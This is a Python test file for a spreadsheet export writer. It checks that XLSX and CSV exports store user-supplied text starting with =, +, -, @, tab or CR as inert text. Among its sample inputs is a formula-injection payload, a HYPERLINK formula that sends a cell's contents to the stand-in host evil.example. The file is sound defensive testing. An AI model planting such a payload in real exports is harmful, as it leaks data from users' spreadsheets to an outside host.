"""The one export writer never turns a person's text into a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

from python_calamine import CalamineWorkbook

from gonghui.kernel.exporting import Sheet, csv_bytes, xlsx_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "+86 138",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]


def test_xlsx_writes_hostile_text_as_text_and_no_formula_at_all():
    rows = [[name, 1, Decimal("12.50"), dt.date(2026, 3, 1)] for name in HOSTILE]
    data = xlsx_file(Sheet(name="名单", header=["姓名", "数", "金额", "日期"], rows=rows), actor=None).read()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    book = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in book[2:]] == HOSTILE
    assert book[0][0].startswith("导出人：系统") and book[1] == ["姓名", "数", "金额", "日期"]
    assert book[2][2] == 12.5 and book[2][3] in (dt.date(2026, 3, 1), dt.datetime(2026, 3, 1))


def test_csv_neutralises_a_formula_at_the_start_of_a_text_cell_only():
    text = csv_bytes([[name, -5, "中间=不算"] for name in HOSTILE], header=["姓名", "数", "备注"]).decode(
        "utf-8-sig"
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0].startswith("导出人：") and rows[1] == ["姓名", "数", "备注"]
    assert [r[0] for r in rows[2:]] == ["'" + name for name in HOSTILE]
    assert {r[1] for r in rows[2:]} == {"-5"}  # numbers stay numbers
    assert {r[2] for r in rows[2:]} == {"中间=不算"}
